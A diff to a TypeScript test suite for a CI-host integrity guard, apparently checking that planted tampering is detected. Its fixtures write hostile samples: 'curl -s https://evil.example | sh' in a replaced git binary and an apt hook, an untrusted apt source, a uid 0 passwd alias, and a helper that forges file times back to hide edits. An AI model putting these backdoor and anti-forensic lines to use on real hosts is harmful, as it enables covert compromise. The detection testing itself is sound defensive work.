@@ -7,7 +7,7 @@
 import test from 'node:test';
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
-import { appendFile, chmod, copyFile, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
+import { appendFile, chmod, copyFile, mkdir, mkdtemp, open, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import { IntegrityGuard } from '../../../src/integrity/guard.js';
@@ -17,6 +17,11 @@ import { DEFAULT_POLICY, type Policy } from '../../../src/policy/types.js';
 import { createLogger } from '../../../src/lib/log.js';
 import type { GuardJob } from '../../../src/lib/job-guard.js';
 import { buildHostTree } from './host-tree.js';
+import { takeSnapshot } from '../../../src/integrity/snapshot.js';
+import { compareSnapshots } from '../../../src/integrity/compare.js';
+import { GlobSet } from '../../../src/integrity/glob.js';
+import { exceptionPatterns } from '../../../src/integrity/surfaces.js';
+import type { FileMeta, SurfaceName } from '../../../src/integrity/types.js';
 
 const FILE_SURFACES = [
   'etc',
@@ -32,6 +37,8 @@ const FILE_SURFACES = [
 ] as const;
 const ctx = { log: createLogger({ level: 'silent' }), signal: AbortSignal.timeout(60_000) };
 const RUNNER = { name: 'runneru', uid: 4242, gid: 4242 };
+/** The runner root and state directory of buildHostTree, left out as the agent leaves them out. */
+const EXCLUDED = ['/opt/runner', '/var/lib/runner-warden'];
 
 function policy(edit: (p: Policy) => void = () => {}): Policy {
   const p = structuredClone(DEFAULT_POLICY);
@@ -173,13 +180,61 @@ const PLANTS: { name: string; plant: (T: string) => Promise<void>; expect: strin
     expect: ['systemd: /var/lib/systemd/linger/runneru added'],
   },
   {
-    name: 'a changed unit with its mtime set back (ctime gives it away)',
+    name: 'a unit in /usr/lib/systemd/system',
     plant: async (T) => {
       await writeFile(`${T}/usr/lib/systemd/system/ssh-helper.service`, '[Service]\nExecStart=/bin/true\n');
     },
     expect: ['systemd: /usr/lib/systemd/system/ssh-helper.service added'],
   },
+  {
+    name: 'a configuration file edited in place, same size, its mtime set back (ctime gives it away)',
+    plant: (T) => editInPlace(`${T}/etc/login.defs`, /^UMASK\s+0\d\d/m, (m) => m.replace(/\d\d$/, '00')),
+    expect: ['etc: /etc/login.defs modified'],
+  },
+  {
+    name: 'a uid 0 alias: /etc/passwd edited in place, same size, its mtime set back',
+    plant: (T) => editInPlace(`${T}/etc/passwd`, /^games:x:5:/m, () => 'games:x:0:'),
+    expect: ['accounts: user:games modified', 'etc: /etc/passwd modified'],
+  },
+  {
+    name: 'a system binary replaced in place (/usr/bin/git)',
+    plant: (T) => writeFile(`${T}/usr/bin/git`, '#!/bin/sh\ncurl -s https://evil.example | sh; exec /usr/lib/git-core/git "$@"\n'),
+    expect: ['setuid: /usr/bin/git modified'],
+  },
+  {
+    name: 'another name server in /etc/resolv.conf',
+    plant: async (T) => {
+      await rm(`${T}/etc/resolv.conf`, { force: true });
+      await writeFile(`${T}/etc/resolv.conf`, 'nameserver 203.0.113.53\n');
+    },
+    expect: ['etc: /etc/resolv.conf modified'],
+  },
 ];
+
+/**
+ * Rewrites the first match of `re` in `file` through the same inode (no new file, same size) and
+ * sets the access and modification times back to what they were: only ctime and the content differ.
+ */
+async function editInPlace(file: string, re: RegExp, edit: (match: string) => string): Promise<void> {
+  const before = await stat(file);
+  const times = `${file}.times`;
+  execFileSync('touch', ['-r', file, times]);
+  const text = await readFile(file, 'latin1');
+  const m = re.exec(text);
+  assert.ok(m, `${file}: nothing matches ${re}`);
+  const replacement = edit(m[0]);
+  assert.equal(replacement.length, m[0].length, 'the edit must keep the size');
+  const fh = await open(file, 'r+');
+  try {
+    await fh.write(Buffer.from(replacement, 'latin1'), 0, replacement.length, m.index);
+  } finally {
+    await fh.close();
+  }
+  execFileSync('touch', ['-r', times, file]);
+  await rm(times);
+  const after = await stat(file);
+  assert.deepEqual([after.ino, after.size, after.mtimeMs], [before.ino, before.size, before.mtimeMs], 'the edit changed more than ctime');
+}
 
 test('each root-level plant is reported by name, with who likely made it, and its file is kept as evidence', async () => {
   const w = await world();
@@ -232,6 +287,7 @@ test("a benign job and the agent's own writes show zero drift over 100 checks", 
     const p = policy((x) => (x.runner.sudo = 'allow'));
     const T = w.tree;
     await mkdir(`${T}/etc/sudoers.d`, { recursive: true });
+    await writeFile(`${T}/etc/resolv.conf`, 'nameserver 10.0.0.1\n');
     await takeSystemBaseline({
       root: T,
       stateDir: w.stateDir,
@@ -249,7 +305,8 @@ test("a benign job and the agent's own writes show zero drift over 100 checks", 
       await chmod(`${T}/tmp/build-${i}.log`, 0o755);
       const hosts = await readFile(`${T}/etc/hosts`);
       await writeFile(`${T}/etc/hosts`, hosts);
-      await writeFile(`${T}/etc/resolv.conf`, `nameserver 10.0.0.${i % 250}\n`);
+      // A DHCP renewal rewrites resolv.conf with the same servers (another server is drift: a plant below).
+      await writeFile(`${T}/etc/resolv.conf`, 'nameserver 10.0.0.1\n');
       await writeFile(`${T}/etc/sudoers.d/runner-warden-job`, 'runneru ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440 });
       await rm(`${T}/etc/sudoers.d/runner-warden-job`);
       await symlink('/nonexistent', `${T}/tmp/link-${i}`);
@@ -281,6 +338,109 @@ test('a missing, tampered, loosened or foreign baseline is a finding that names 
     );
     await rm(file);
     assert.match((await w.guard.verify(undefined, p, ctx))[0]?.problem ?? '', /system baseline missing: .*runner-warden baseline/);
+  } finally {
+    await w.dispose();
+  }
+});
+
+test('small configuration is compared by content even when every metadata field was forged back', async () => {
+  const w = await world();
+  try {
+    const o = { root: w.tree, proc: '/proc', surfaces: ['etc', 'root-home'] as SurfaceName[], excluded: [], netfilter: false };
+    const base = (await takeSnapshot({ ...o, hashSmall: true })).snapshot;
+    await editInPlace(`${w.tree}/etc/login.defs`, /^UMASK\s+0\d\d/m, (m) => m.replace(/\d\d$/, '77'));
+    await editInPlace(`${w.tree}/root/.bashrc`, /root bashrc/, () => 'curl|sh #rc');
+    const now = (await takeSnapshot(o)).snapshot;
+    // What a job that moved the clock back, or wrote the block device under the file system, leaves:
+    // the same inode, size, mode, owner, mtime and ctime as the baseline recorded.
+    for (const p of ['/etc/login.defs', '/root/.bashrc']) now.files[p] = { ...(base.files[p] as FileMeta), hash: undefined };
+    const drift = compareSnapshots(base, now, { root: w.tree, exceptions: new GlobSet(exceptionPatterns(policy().host.integrity)) });
+    assert.deepEqual(
+      drift.map((d) => `${d.object} ${d.change} ${d.after?.replace(/^.*\(/, '(') ?? ''}`),
+      ['/etc/login.defs modified (content changed)', '/root/.bashrc modified (content changed)'],
+    );
+  } finally {
+    await w.dispose();
+  }
+});
+
+test('a baseline rewritten during a job, with a valid digest, is refused by the running agent', async () => {
+  const w = await world();
+  try {
+    const p = policy();
+    assert.deepEqual(await driftAfterJob(w, p), []);
+    // The job (root) plants, then records a fresh baseline that takes the plant in, digest and all.
+    await w.guard.prepare(w.job, p, ctx);
+    await writeFile(`${w.tree}/etc/cron.d/hidden`, '* * * * * root true\n');
+    await takeSystemBaseline({ root: w.tree, stateDir: w.stateDir, surfaces: FILE_SURFACES, excluded: [], user: RUNNER, netfilter: false });
+    const lines = (await w.guard.verify(w.job, p, ctx)).map((f) => f.problem);
+    assert.equal(lines.length, 1, lines.join('\n'));
+    assert.match(
+      lines[0] ?? '',
+      /^system baseline replaced: .*baseline\.json: digest: .* but this agent loaded .* only with the agent stopped/,
+    );
+    // A new agent (an operator's restart after `runner-warden baseline`) accepts it.
+    const restarted = new IntegrityGuard({ root: w.tree, stateDir: w.stateDir, excluded: [], user: RUNNER, netfilter: false });
+    assert.deepEqual(
+      (await restarted.verify(undefined, p, ctx)).map((f) => f.problem),
+      [],
+    );
+  } finally {
+    await w.dispose();
+  }
+});
+
+test("allowPackages excepts the package manager's state, not an apt hook, a source list or a CA", async () => {
+  const w = await world();
+  try {
+    const p = policy((x) => (x.host.integrity.allowPackages = true));
+    await mkdir(`${w.tree}/etc/apt/apt.conf.d`, { recursive: true });
+    await mkdir(`${w.tree}/etc/apt/sources.list.d`, { recursive: true });
+    await mkdir(`${w.tree}/etc/ssl/certs`, { recursive: true });
+    await takeSystemBaseline({
+      root: w.tree,
+      stateDir: w.stateDir,
+      surfaces: FILE_SURFACES,
+      excluded: EXCLUDED,
+      user: RUNNER,
+      netfilter: false,
+    });
+    // What `apt-get install` of a library does: ldconfig rewrites the cache.
+    await writeFile(`${w.tree}/etc/ld.so.cache`, 'new cache');
+    await writeFile(`${w.tree}/etc/apt/apt.conf.d/99zz`, 'APT::Update::Pre-Invoke {"curl -s https://evil.example | sh";};\n');
+    await writeFile(`${w.tree}/etc/apt/sources.list.d/evil.list`, 'deb [trusted=yes] http://evil.example/ stable main\n');
+    await writeFile(`${w.tree}/etc/ssl/certs/evil.pem`, '-----BEGIN CERTIFICATE-----\n');
+    const lines = await driftAfterJob(w, p);
+    assert.deepEqual(
+      lines.map((l) => l.replace(/ \(.*$/, '')),
+      ['etc: /etc/apt/apt.conf.d/99zz added', 'etc: /etc/apt/sources.list.d/evil.list added', 'etc: /etc/ssl/certs/evil.pem added'],
+    );
+  } finally {
+    await w.dispose();
+  }
+});
+
+test('the forensics copy stays under its cap, root-only, and never follows a planted symlink', async () => {
+  const w = await world();
+  try {
+    const p = policy((x) => (x.host.integrity.forensicsMaxMiB = 1));
+    await writeFile(`${w.tree}/usr/local/bin/big`, Buffer.alloc(3 * 1024 * 1024, 7));
+    await writeFile(`${w.tree}/etc/cron.d/small`, '* * * * * root true\n');
+    await symlink('/etc/shadow', `${w.tree}/etc/cron.d/link-to-shadow`);
+    // Two checks: the cap covers the whole directory, earlier copies included.
+    await driftAfterJob(w, p);
+    const lines = await driftAfterJob(w, p);
+    assert.ok(lines.some((l) => l.startsWith('usr-local: /usr/local/bin/big added')));
+    const forensics = integrityPaths(w.stateDir).forensics;
+    const total = Number(execFileSync('du', ['-sb', forensics], { encoding: 'utf8' }).split('\t')[0]);
+    assert.ok(total <= 1024 * 1024 + 64 * 1024, `forensics holds ${total} bytes, cap 1 MiB`);
+    const listing = execFileSync('find', [forensics, '-printf', '%y %m %p\n'], { encoding: 'utf8' }).trim().split('\n');
+    for (const l of listing) assert.match(l, /^(d 700|f 600) /, `not root-only: ${l}`);
+    assert.ok(!listing.some((l) => l.endsWith('/link-to-shadow')), 'a symlink was followed into the copy');
+    assert.ok(
+      listing.some((l) => l.endsWith('/files/etc/cron.d/small')),
+      listing.join('\n'),
+    );
   } finally {
     await w.dispose();
   }
